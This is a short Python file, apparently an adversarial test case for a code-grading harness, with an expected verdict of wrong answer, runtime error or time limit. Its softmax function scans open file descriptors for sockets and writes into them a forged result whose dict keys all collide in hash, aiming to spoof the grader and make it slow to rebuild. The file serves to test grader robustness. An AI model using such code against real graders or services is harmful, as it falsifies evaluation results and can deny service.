"""I. Enormous results: a forged reply with a dict whose keys all have one hash, quadratic to rebuild.

Verdict: wrong_answer|runtime_error|time_limit
"""

import json
import os
import stat
import struct


def softmax(x, dim):
    prime = (1 << 61) - 1
    items = ",".join('[{"int":"%x"},null]' % (i * prime) for i in range(1, 60_000))
    text = b'{"output":{"dict":[' + items.encode() + b']},"inputs":null,"gradients":[],"noncontiguous":null}'
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                data = memoryview(struct.pack("<IQ", len(text), 0) + text)
                while data:
                    data = data[os.write(fd, data) :]
        except OSError:
            pass
    return x
